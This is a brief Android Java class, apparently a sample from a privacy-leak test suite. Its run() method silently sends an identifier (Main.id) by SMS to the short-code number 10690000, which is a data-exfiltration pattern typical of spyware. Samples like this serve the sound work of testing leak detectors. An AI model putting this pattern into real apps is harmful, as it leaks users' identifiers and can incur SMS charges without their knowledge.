package cn.privlens.suite.reversed_name;

import android.telephony.SmsManager;

public class Loud implements Runnable {
    @Override
    public void run() { SmsManager.getDefault().sendTextMessage("10690000", null, Main.id, null, null); }
}
